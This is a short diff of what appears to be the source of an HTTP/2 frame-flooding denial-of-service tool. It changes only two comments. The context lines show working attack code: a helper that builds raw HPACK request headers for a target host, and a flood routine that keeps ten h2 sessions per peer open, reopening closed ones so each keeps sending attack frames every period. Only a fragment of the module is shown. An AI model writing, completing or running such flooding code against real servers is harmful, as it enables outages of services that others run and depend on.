@@ -1,4 +1,4 @@
-// Floods of HTTP/2 frames, where a target offers it. Each attack: { name, run(crowd), on(target) }.
+// Floods of HTTP/2 frames, on targets with HTTP/2. Each attack: { name, run(crowd), on(target) }.
 import { randomBytes } from 'node:crypto'
 
 const kPeers = 10
@@ -27,7 +27,7 @@ function fields(target, path, method = 0x82) {
   return Buffer.concat([Buffer.from([method, 0x87]), literal(4, path), literal(1, target.host)])
 }
 
-/** `kPeers` sessions; `piece(session)` makes what each sends each period; closed ones are opened again. */
+/** `kPeers` sessions, each of which sends piece(session) each period; closed ones are reopened. */
 async function flood(crowd, piece, { preface = kPreface, paused = false } = {}) {
   const start = async () => {
     const socket = await crowd.open({ alpn: ['h2'], paused })
